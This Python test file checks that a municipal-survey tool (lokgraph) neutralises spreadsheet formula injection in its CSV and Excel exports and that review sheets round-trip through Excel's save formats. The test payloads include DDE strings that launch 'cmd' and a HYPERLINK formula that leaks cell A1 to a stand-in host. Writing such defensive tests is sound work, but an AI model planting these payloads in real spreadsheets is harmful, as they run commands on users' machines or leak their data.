"""Sheets safe to open in Excel, and the review sheet's round trip as Excel users save it.

Formula injection: every sheet lokgraph writes (the review sheet as CSV and .xlsx, the Kumu
sheets, `gaps --csv`, the matrix CSV) has no cell beginning with =, +, -, @, TAB or CR, and
reading a review sheet back restores the text exactly. Round trip: a review sheet re-saved
as Excel saves it (semicolons, cp1252, with or without BOM, .xlsx) imports to the same store.
"""

from __future__ import annotations

import csv
import io
import shutil

import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

from loaders.review import read_review, review_rows, write_review
from lokgraph.export import export
from lokgraph.facts import Fact
from lokgraph.graph import build_graph
from lokgraph.sheets import DANGEROUS, neutralise, restore
from tests.cli_run import lokgraph
from tests.graph_helpers import DALARNA_SURVEY

PAYLOADS = [
    '=HYPERLINK("http://example.invalid/?q="&A1;"klicka här")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "'=1+1",
    "'",
]


def _facts() -> list[Fact]:
    return [
        Fact(
            kind="absent",
            kommun="Leksand",
            party="BUP",
            group_type="styrgrupp",
            reason="not_participating",
            quote=payload + " BUP deltar inte i styrgruppen.",
            source="enkät 2024.txt",
            question=payload,
        )
        for payload in PAYLOADS
    ] + [
        Fact(
            kind="agreement_status",
            kommun="Älvdalen",
            agreement_area="barn_unga",
            status="in_progress",
            quote="LÖK:en är nästan klar, säger förvaltningen.",
            source="enkät 2024.txt",
        ),
        Fact(
            kind="member",
            kommun="Orsa",
            party="HAB",
            group_type="arbetsgrupp",
            partial=True,
            quote="HAB deltar vid behov.",
            source="enkät 2024.txt",
        ),
    ]


def _csv_cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text.lstrip("\ufeff"))) for cell in row]


def _assert_safe(cells: list[str], where: str) -> None:
    bad = [c for c in cells if c.startswith(DANGEROUS)]
    assert not bad, f"{where}: cells that would run as formulas: {bad[:3]}"


@given(st.text(max_size=30))
def test_restore_undoes_neutralise_for_any_text(text):
    assert restore(neutralise(text)) == text
    assert not neutralise(text).startswith(DANGEROUS)


def test_review_sheet_csv_is_safe_and_reads_back_exactly(tmp_path):
    path = write_review(_facts(), tmp_path / "ark.csv")
    data = path.read_bytes()
    assert data.startswith(b"\xef\xbb\xbf")
    _assert_safe(_csv_cells(data.decode("utf-8")), "review sheet")
    assert read_review(path) == _facts()


def test_review_sheet_xlsx_is_safe_and_reads_back_exactly(tmp_path):
    path = write_review(_facts(), tmp_path / "ark.xlsx")
    book = load_workbook(path)
    cells = [c for row in book.active.iter_rows() for c in row if c.value is not None]
    assert all(c.data_type == "s" for c in cells), "a cell is stored as a formula"
    _assert_safe([str(c.value) for c in cells], "review workbook")
    assert read_review(path) == _facts()


def test_kumu_sheets_are_safe(tmp_path):
    from lokgraph.entities import kommun_structure
    from lokgraph.from_facts import facts_source, facts_to_structure
    from lokgraph.reference import find_kommun

    structure = kommun_structure(find_kommun("Leksand")) + facts_to_structure(
        _facts(), source=facts_source("=cmd.txt", title="=HYPERLINK(1)")
    )
    graph = build_graph(structure)
    for path in export(graph, "csv", tmp_path / "kumu.csv"):
        _assert_safe(_csv_cells(path.read_text(encoding="utf-8-sig")), path.name)
    (book,) = export(graph, "xlsx", tmp_path / "kumu.xlsx")
    seen = []
    for sheet in load_workbook(book).worksheets:
        values = [str(c.value) for row in sheet.iter_rows() for c in row if c.value is not None]
        _assert_safe(values, sheet.title)
        seen += values
    assert "'=HYPERLINK(1)" in seen


@pytest.fixture(scope="module")
def injected_store(tmp_path_factory):
    folder = tmp_path_factory.mktemp("injection")
    text = folder / "leksand.txt"
    text.write_text(
        "Leksand\n\n"
        '=HYPERLINK("http://example.invalid";"klicka") BUP deltar inte i styrgruppen.\n\n'
        "+cmd|' /C calc'!A0 HAB har inte deltagit i arbetsgruppen.\n",
        encoding="utf-8",
    )
    store = folder / "store.json"
    result = lokgraph("import", text, "--store", store)
    assert result.returncode == 0, str(result)
    return store


def test_gaps_csv_is_safe(injected_store):
    result = lokgraph("gaps", "--csv", "--store", injected_store)
    assert result.returncode == 0, str(result)
    cells = _csv_cells(result.stdout)
    _assert_safe(cells, "gaps --csv")
    assert any(c.startswith("'=HYPERLINK") for c in cells)


def test_matrix_csv_is_safe_and_has_a_bom(injected_store, tmp_path):
    from lokgraph.store import FileStore
    from visualizations.matrix import matrix_csv

    out = tmp_path / "matris.csv"
    result = lokgraph("matrix", "--csv", "-o", out, "--store", injected_store)
    assert result.returncode == 0, str(result)
    assert out.read_bytes().startswith(b"\xef\xbb\xbf")
    _assert_safe(_csv_cells(out.read_text(encoding="utf-8-sig")), "matrix --csv")
    # a kommun name is reference data, so put a payload there to prove the writer guards it
    graph = FileStore(injected_store).load()
    graph.nodes["kommun:leksand"]["name"] = "=1+1"
    _assert_safe(_csv_cells(matrix_csv(graph)), "matrix_csv")


# ---- the review sheet as Excel saves it ------------------------------------------------------


def _excel_csv(path, *, delimiter: str, encoding: str, bom: bool) -> None:
    """Re-save a sheet as Excel does: its own delimiter and encoding, the same cells."""
    rows = list(csv.reader(io.StringIO(path.read_text(encoding="utf-8-sig"))))
    out = io.StringIO()
    csv.writer(out, delimiter=delimiter, lineterminator="\r\n").writerows(rows)
    data = out.getvalue().encode(encoding)
    path.write_bytes((b"\xef\xbb\xbf" if bom else b"") + data)


SAVES = [
    ("semicolon-cp1252", ";", "cp1252", False),
    ("semicolon-utf8-bom", ";", "utf-8", True),
    ("comma-utf8", ",", "utf-8", False),
    ("comma-utf8-bom", ",", "utf-8", True),
]


@pytest.mark.skipif(not DALARNA_SURVEY.exists(), reason="needs ../shared/seeds")
def test_a_review_sheet_saved_by_excel_imports_without_loss(tmp_path):
    """Every way of saving the Dalarna review sheet gives the same store as the sheet itself."""
    sheet = tmp_path / "ark.csv"
    made = lokgraph("extract", DALARNA_SURVEY, "--review", sheet)
    assert made.returncode == 0, str(made)
    header = next(csv.reader(io.StringIO(sheet.read_text(encoding="utf-8-sig"))))
    assert header[0] == "slag (kind)" and "citat (quote)" in header
    reference = tmp_path / "reference.json"
    done = lokgraph("import", sheet, "--store", reference)
    assert done.returncode == 0, str(done)
    assert "anteckning" not in done.stderr and "ignor" not in done.stderr
    expected = reference.read_bytes()
    facts = read_review(sheet)
    assert len(facts) > 100
    for name, delimiter, encoding, bom in SAVES:
        copy = tmp_path / f"{name}.csv"
        shutil.copy(sheet, copy)
        _excel_csv(copy, delimiter=delimiter, encoding=encoding, bom=bom)
        assert read_review(copy) == facts, name
        store = tmp_path / f"{name}.json"
        result = lokgraph("import", copy, "--store", store)
        assert result.returncode == 0, str(result)
        assert store.read_bytes() == expected, name
    # and as an Excel workbook, written by openpyxl
    book = tmp_path / "ark.xlsx"
    write_review(facts, book)
    store = tmp_path / "xlsx.json"
    result = lokgraph("import", book, "--store", store)
    assert result.returncode == 0, str(result)
    assert store.read_bytes() == expected


def test_swedish_values_and_codes_are_both_read(tmp_path):
    header, rows = review_rows(_facts()[-2:])
    text = io.StringIO()
    writer = csv.writer(text, delimiter=";")
    writer.writerow(header)
    for row in rows:
        writer.writerow(row)
    # a planner types codes in one row and "word (code)" in another
    lines = text.getvalue().replace("under framtagande", "in_progress")
    lines = lines.replace("medlem;", "medlem (member);")
    path = tmp_path / "blandat.csv"
    path.write_text(lines, encoding="cp1252")
    assert read_review(path) == _facts()[-2:]


def test_a_review_sheet_without_its_quote_column_is_an_error(tmp_path):
    header, rows = review_rows(_facts()[-2:])
    keep = [i for i, h in enumerate(header) if not h.startswith("citat")]
    path = tmp_path / "utan-citat.csv"
    with path.open("w", encoding="utf-8-sig", newline="") as f:
        writer = csv.writer(f)
        writer.writerow([header[i] for i in keep])
        writer.writerows([[r[i] for i in keep] for r in rows])
    store = tmp_path / "store.json"
    result = lokgraph("import", path, "--store", store)
    assert result.returncode == 1, str(result)
    assert "citat (quote)" in result.stderr and "Traceback" not in result.stderr
    assert not store.exists()


def test_every_fact_field_has_a_swedish_heading():
    from loaders.review import REVIEW_COLUMNS, _words

    assert set(REVIEW_COLUMNS) <= set(_words()["columns"])


def test_every_sheet_writer_goes_through_lokgraph_sheets():
    """One module writes CSV and xlsx, so no writer can skip the neutralising rule."""
    from pathlib import Path

    root = Path(__file__).resolve().parents[1]
    writers = ("csv.writer(", "csv.DictWriter(", "Workbook(", ".writerow(")
    offenders = []
    for package in ("lokgraph", "loaders", "queries", "visualizations"):
        for path in (root / package).rglob("*.py"):
            if path.name == "sheets.py" and path.parent.name == "lokgraph":
                continue
            text = path.read_text(encoding="utf-8")
            offenders += [f"{path.relative_to(root)}: {w}" for w in writers if w in text]
    assert offenders == []
